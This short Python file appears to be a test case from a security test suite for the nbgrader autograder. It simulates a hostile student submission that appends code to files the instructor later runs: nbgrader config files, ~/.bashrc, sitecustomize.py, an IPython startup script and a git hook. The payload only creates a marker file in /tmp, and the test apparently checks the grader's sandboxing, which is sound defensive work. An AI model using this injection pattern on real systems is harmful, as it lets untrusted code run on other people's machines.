"""Writes code into configuration files that the instructor's next command would run."""

# wants: instructor
# answers: wrong
# stock: graded

# %% last
import glob
import os

line = "\nopen('/tmp/pwned-by-a-student-config', 'w')\n"
for path in (
    "../../../nbgrader_config.py", "../../nbgrader_config.py", *glob.glob("/tmp/**/nbgrader_config.py", recursive=True),
    os.path.expanduser("~/.jupyter/nbgrader_config.py"), os.path.expanduser("~/.bashrc"), "../../../sitecustomize.py",
    os.path.expanduser("~/.ipython/profile_default/startup/pwned-by-a-student.py"), "../../../.git/hooks/post-merge",
):
    try:
        with open(path, "a") as file:
            file.write(line)
    except OSError as error:
        print(path, error.strerror)
